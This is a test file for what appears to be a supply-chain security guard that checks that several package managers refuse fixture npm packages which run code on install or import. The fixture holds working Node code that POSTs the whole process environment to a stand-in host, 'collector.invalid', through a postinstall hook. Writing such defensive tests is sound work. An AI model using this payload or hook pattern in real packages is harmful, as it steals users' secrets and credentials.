import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { managerNames } from '../tools/managers.ts'
import { dependsOn, type FixturePackage, hostile } from '../tools/packages.ts'
import { add, builderMarks, frozenInstall, inWorld, offered, ok, permissive, stopped } from './world.ts'

const only = process.env['ONLY']

/** What would send the whole environment away, to a name that no resolver knows. */
const sends = `require('./mark.js')
const { request } = require('node:https')
const upload = request({ host: 'collector.invalid', method: 'POST', path: '/in' })
upload.on('error', () => {})
upload.end(JSON.stringify(process.env))
`
const atInstall = hostile('sends-at-install', '1.0.0', {
  manifest: { scripts: { postinstall: 'node lib/setup.js postinstall' } },
  files: { 'lib/setup.js': sends.replace('./mark.js', '../mark.js') },
})
const atImport = hostile('sends-at-import', '1.0.0', { events: ['import'], files: { 'index.js': sends } })
const packages: readonly FixturePackage[] = [...offered, atInstall, atImport, dependsOn('brings-sender', atImport)]

for (const id of managerNames.filter((name) => !only || name.startsWith(only))) {
  for (const name of ['sends-at-install', 'sends-at-import', 'brings-sender']) {
    test(`${id} stops at code that would send the environment away: ${name}`, () =>
      inWorld(id, { clean: '1.0.0', [name]: '1.0.0' }, { files: permissive[id], packages }, async ({ app, run }) => {
        const result = await run('install')
        stopped(result)
        assert.match(result.output, /CRITICAL code\/[a-z-]+/u)
        assert.match(result.output, /collector\.invalid/u)
        assert.equal(app.marks(), [], result.output)
        for (const condemned of ['sends-at-install', 'sends-at-import'])
          assert.not.ok(await app.exists(`node_modules/${condemned}/package.json`), condemned)
      }))
  }

  test(`${id} does not add it, and goes on with what was there`, () =>
    inWorld(id, { builder: '1.0.0' }, { files: permissive[id], packages }, async (world) => {
      const { app, run, guard } = world
      ok(await run('install'))
      ok(await guard('approve', 'builder'))
      stopped(await add(world, 'sends-at-import@1.0.0'))
      assert.not.ok(await app.exists('node_modules/sends-at-import/package.json'))
      assert.not.match(await app.read('package.json'), /sends-at-import/u)
      await app.remove('node_modules')
      ok(await run(...frozenInstall(id)))
      assert.equal(app.marks(), builderMarks)
    }))
}

test.run()
